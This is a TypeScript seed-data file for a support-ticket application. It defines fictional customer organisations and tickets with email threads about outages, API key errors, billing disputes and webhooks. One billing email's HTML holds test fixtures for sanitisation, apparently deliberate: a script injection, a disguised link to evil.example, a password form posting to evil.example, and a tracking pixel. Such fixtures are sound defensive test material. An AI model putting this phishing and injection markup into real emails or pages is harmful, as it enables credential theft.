import { unknownAccount } from '#domain/customer/organisation.ts';
import { day, hour, minute, second, type Instant } from '#domain/time/instant.ts';
import type { OrganisationView } from '#contract/customers.ts';
import type { SeedMessage, SeedTicket } from './in-memory-seed.ts';

const organisation = (
  id: number,
  name: string,
  tier: OrganisationView['tier'],
  domain: string,
  more: Partial<OrganisationView> = {},
): OrganisationView => ({
  id,
  name,
  tier,
  contacts: [],
  domains: [domain],
  monthlyRevenue: {
    minor: tier === 'enterprise' ? 3_000_000 : tier === 'professional' ? 1_500_000 : 250_000,
    currency: 'USD',
  },
  csm: null,
  timeZone: null,
  renewalDate: null,
  ...unknownAccount,
  ...more,
});

const plain = {
  runnerUp: 'other',
  status: { kind: 'open' },
  escalated: false,
  assignee: null,
  tags: [],
  answeredAt: null,
  solvedAt: null,
  needsReply: true,
} as const;

const pixel = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';

/** The tickets of the design picture, with their conversations. */
export function pictureTickets(now: Instant): {
  readonly tickets: readonly SeedTicket[];
  readonly organisations: readonly OrganisationView[];
} {
  const organisations = [
    organisation(1, 'Northwind Freight', 'enterprise', 'northwind.example', {
      csm: 'Priya N.',
      timeZone: 'America/New_York',
    }),
    organisation(2, 'Halden Retail', 'enterprise', 'halden.example', {
      csm: 'Priya N.',
      timeZone: 'Europe/Berlin',
      renewalDate: '2027-03-01',
      contacts: [{ address: 'ines@halden.example', name: 'Ines Halden' }],
    }),
    organisation(3, 'Pacto Foods', 'professional', 'pacto.example', { timeZone: 'America/Sao_Paulo' }),
    organisation(4, 'Brightcart', 'professional', 'brightcart.example', { timeZone: 'Asia/Seoul' }),
    organisation(5, 'Kettle', 'starter', 'kettle.example', { timeZone: 'Europe/Vienna' }),
    organisation(6, 'Orla', 'starter', 'orla.example', { timeZone: 'Europe/Lisbon' }),
    organisation(7, 'Stackline', 'professional', 'stackline.app'),
  ];

  const mail = (
    from: string,
    name: string,
    at: Instant,
    text: string,
    more: Partial<SeedMessage> = {},
  ): SeedMessage => ({ from, name, at, direction: 'in', text, ...more });
  const overdueOpened = now - hour - 4 * minute - 12 * second;
  const haldenOpened = now - 6 * minute - 19 * second;
  const pactoOpened = now - 2 * hour - 21 * minute - 55 * second;

  const tickets: SeedTicket[] = [
    {
      ...plain,
      number: 1041,
      organisation: 1,
      contact: 'Dana Reyes',
      address: 'dana@northwind.example',
      tier: 'enterprise',
      severity: 'critical',
      type: 'outage',
      probability: 0.99,
      escalated: true,
      subject: 'All API calls failing since 09:12 – production down',
      snippet: 'Every request from our cluster returns 503, nothing gets through. Trucks are waiting at the dock.',
      openedAt: overdueOpened,
      evidence: ['Every request from our cluster returns 503', 'nothing gets through'],
      messages: [
        mail(
          'dana@northwind.example',
          'Dana Reyes',
          overdueOpened,
          'Every request from our cluster returns 503, nothing gets through. Trucks are waiting at the dock.\n\nPlease call me.',
          {
            signature: '-- \nDana Reyes\nHead of Platform, Northwind Freight',
          },
        ),
      ],
    },
    {
      ...plain,
      number: 1042,
      organisation: 2,
      contact: 'Ines Halden',
      address: 'ines@halden.example',
      tier: 'enterprise',
      severity: 'high',
      type: 'api-key-invalid',
      probability: 0.97,
      runnerUp: 'rate-limit',
      also: ['how-to'],
      assignee: 'You',
      subject: '401 Unauthorized on /v1/inventory after key rotation',
      snippet: 'We rotated keys yesterday and now get 401 Unauthorized on every call to the inventory endpoint.',
      openedAt: haldenOpened,
      evidence: ['401 Unauthorized', 'invalid_api_key'],
      messages: [
        mail(
          'ines@halden.example',
          'Ines Halden',
          haldenOpened,
          'Hi team,\nwe rotated our keys yesterday evening and since then every call to the inventory endpoint fails:\n\n    GET /v1/inventory?warehouse=EU-1\n    HTTP/1.1 401 Unauthorized\n    {"error":"invalid_api_key","request_id":"req_8f2c"}\n\nStock levels in our shops are now frozen, this is costing us orders. Can you check?\n\nInes',
          {
            signature: '-- \nInes Halden · Platform lead\nHalden Retail GmbH',
            quote: '> On 22 Nov 2026, TAI Support wrote:\n> Your key rotation is scheduled for 18:00.',
          },
        ),
      ],
    },
    {
      ...plain,
      number: 1039,
      organisation: 3,
      contact: 'Rui Pacto',
      address: 'rui@pacto.example',
      tier: 'professional',
      severity: 'medium',
      type: 'billing-dispute',
      probability: 0.94,
      runnerUp: 'billing-question',
      subject: 'Re: Invoice INV-12345 looks wrong',
      snippet: 'You charged us $20K but we expected $12K after the discount that was agreed in September.',
      openedAt: pactoOpened,
      evidence: ['You charged us $20K', 'we expected $12K'],
      messages: [
        mail(
          'rui@pacto.example',
          'Rui Pacto',
          pactoOpened - 3 * hour,
          'Hello,\n\ncould you send us the breakdown of INV-12345?\n\nRui',
        ),
        mail(
          'support@tai.example',
          'TAI Support',
          pactoOpened - 2 * hour,
          'Hi Rui,\n\nthe breakdown is attached.\n\nBest,\nSam',
          {
            direction: 'out',
            attachments: [
              { name: 'INV-12345 breakdown.csv', type: 'text/csv', bytes: 'aXRlbSxhbW91bnQKU0tVcywxMjAwMAo=' },
            ],
          },
        ),
        mail(
          'rui@pacto.example',
          'Rui Pacto',
          pactoOpened,
          'You charged us $20K but we expected $12K after the discount that was agreed in September.\n\nPlease correct it.',
          {
            quote: '> Hi Rui,\n> the breakdown is attached.',
            html: `<html><head><style>@import url(https://cdn.mailer.example/fonts.css); .total{color:#b42318;background:url(https://img.mailer.example/bg.png)}</style></head><body style="font-family:Arial"><p>You charged us <b class="total">$20K</b> but we expected <b>$12K</b> after the discount that was agreed in September.</p><table border="1" cellpadding="6"><tr><th>Item</th><th>Charged</th><th>Expected</th></tr><tr><td>450 SKUs</td><td>$12,000</td><td>$12,000</td></tr><tr><td>Participation</td><td>$8,000</td><td>–</td></tr></table><p><img src="cid:logo@pacto" alt="Pacto logo" width="24" height="24"> <img src="https://img.mailer.example/header.png" alt="Header" width="300" height="60"><img src="https://img.mailer.example/footer.jpg" alt=""><img src="https://track.mailer.example/open.gif?id=8812" width="1" height="1"></p><p>See <a href="https://pacto.example/contract">our contract</a> or <a href="https://evil.example/login">https://tai.example/login</a>.</p><script>window.top.document.title='pwned'</script><form action="https://evil.example"><input name="password"><button>Log in</button></form><blockquote type="cite">Hi Rui, the breakdown is attached.</blockquote></body></html>`,
            attachments: [
              { name: 'logo.png', type: 'image/png', bytes: pixel, contentId: 'logo@pacto', inline: true },
              { name: 'contract-2026.pdf', type: 'application/pdf', bytes: 'JVBERi0xLjQK'.repeat(4_000) },
            ],
          },
        ),
      ],
    },
    {
      ...plain,
      number: 1043,
      organisation: 4,
      contact: 'Aria Kim',
      address: 'aria@brightcart.example',
      tier: 'professional',
      severity: 'medium',
      type: 'webhook-missing',
      probability: 0.92,
      subject: 'Webhook never called for order.created',
      snippet: 'We registered the endpoint but nothing arrives when an order is created.',
      openedAt: now - 47 * minute - 10 * second,
      evidence: ['nothing arrives'],
      messages: [
        mail(
          'aria@brightcart.example',
          'Aria Kim',
          now - 47 * minute - 10 * second,
          'We registered the endpoint but nothing arrives when an order is created.\n\nThe URL is https://hooks.brightcart.example/tai.\n\nThanks,\nAria',
        ),
      ],
    },
    {
      ...plain,
      number: 1037,
      organisation: null,
      contact: null,
      address: 'ops@lumen.io',
      tier: 'starter',
      severity: 'medium',
      type: 'rate-limit',
      probability: 0.9,
      subject: '429 Too Many Requests during nightly sync',
      snippet: 'Around 02:00 UTC roughly a third of our calls fail with 429.',
      openedAt: now - 16 * hour - 19 * minute - 49 * second,
      evidence: ['429'],
      messages: [
        mail(
          'ops@lumen.io',
          '',
          now - 16 * hour - 19 * minute - 49 * second,
          'Around 02:00 UTC roughly a third of our calls fail with 429.\n\nIs there a limit we should know of?',
        ),
      ],
    },
    {
      ...plain,
      number: 1036,
      organisation: 5,
      contact: 'Jonas Weber',
      address: 'jonas@kettle.example',
      tier: 'starter',
      severity: 'low',
      type: 'feature-request',
      probability: 0.88,
      subject: 'Can rules reference external price lists?',
      snippet: 'It would be great if the rule editor could read our price lists from a sheet.',
      openedAt: now - 25 * hour - 54 * minute - 41 * second,
      evidence: ['It would be great if'],
      messages: [
        mail(
          'jonas@kettle.example',
          'Jonas Weber',
          now - 25 * hour - 54 * minute - 41 * second,
          'Hi,\n\nIt would be great if the rule editor could read our price lists from a sheet.\n\nJonas',
        ),
      ],
    },
    {
      ...plain,
      number: 1029,
      organisation: 6,
      contact: 'Marta Silva',
      address: 'marta@orla.example',
      tier: 'starter',
      severity: 'high',
      type: 'missing-data',
      probability: 0.86,
      status: { kind: 'waiting-on-customer' },
      answeredAt: now - day,
      subject: 'Missing orders from 12 November',
      snippet: 'Attached are the three order IDs you asked for.',
      openedAt: now - 26 * hour,
      evidence: ['Missing orders'],
      messages: [
        mail(
          'marta@orla.example',
          'Marta Silva',
          now - 26 * hour,
          'Missing orders from 12 November: we sent them and they do not show up.',
        ),
        mail(
          'support@tai.example',
          'TAI Support',
          now - day,
          'Hi Marta,\n\nwhich orders exactly? Three order IDs would help.\n\nSam',
          { direction: 'out' },
        ),
        mail('marta@orla.example', 'Marta Silva', now - 5 * hour, 'I am out of the office until Monday.', {
          machine: { kind: 'out-of-office', reason: 'Auto-Submitted: auto-replied' },
        }),
      ],
    },
    {
      ...plain,
      number: 1044,
      organisation: 7,
      contact: null,
      address: 'dev@stackline.app',
      tier: 'professional',
      severity: 'low',
      type: 'malformed-json',
      probability: 0.91,
      subject: 'JSON parse error: unexpected token at position 118',
      snippet: '{"warehouse": "EU-1", "items": [{"sku": "A-1", }]}',
      openedAt: now - 19 * minute,
      evidence: ['JSON parse error'],
      messages: [
        mail(
          'dev@stackline.app',
          '',
          now - 19 * minute,
          'JSON parse error for this body:\n\n    {"warehouse": "EU-1", "items": [{"sku": "A-1", }]}',
          { senderWarning: 'DMARC failed: the sender may not be who they say they are' },
        ),
      ],
    },
  ];

  const solved = (
    number: number,
    subject: string,
    type: SeedTicket['type'],
    daysAgo: number,
    took: number,
  ): SeedTicket => ({
    ...plain,
    number,
    organisation: 2,
    contact: 'Ines Halden',
    address: 'ines@halden.example',
    tier: 'enterprise',
    severity: 'medium',
    type,
    probability: 0.9,
    status: { kind: 'solved' },
    needsReply: false,
    answeredAt: now - daysAgo * day + 20 * minute,
    solvedAt: now - daysAgo * day + took,
    subject,
    snippet: 'Thank you, it works again.',
    openedAt: now - daysAgo * day,
    evidence: [],
    messages: [mail('ines@halden.example', 'Ines Halden', now - daysAgo * day, `${subject}. Can you help?`)],
  });
  return {
    tickets: [
      ...tickets,
      solved(988, 'Rate limit during import', 'rate-limit', 9, 3 * hour),
      solved(941, 'Rule test fails on empty field', 'bug-report', 24, day),
    ],
    organisations,
  };
}
